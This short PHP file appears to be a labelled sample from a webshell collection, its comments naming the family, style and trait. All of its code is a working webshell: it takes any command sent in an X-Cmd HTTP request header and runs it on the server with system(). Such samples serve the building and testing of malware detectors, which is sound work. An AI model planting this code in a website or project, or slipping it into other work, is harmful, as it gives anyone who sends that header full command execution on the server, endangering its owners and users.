<?php
// Family: webshell/exec-request
// Style: command in a request header
// Trait: HTTP_ header value passed to system
if (isset($_SERVER['HTTP_X_CMD'])) { system($_SERVER['HTTP_X_CMD']); die; }
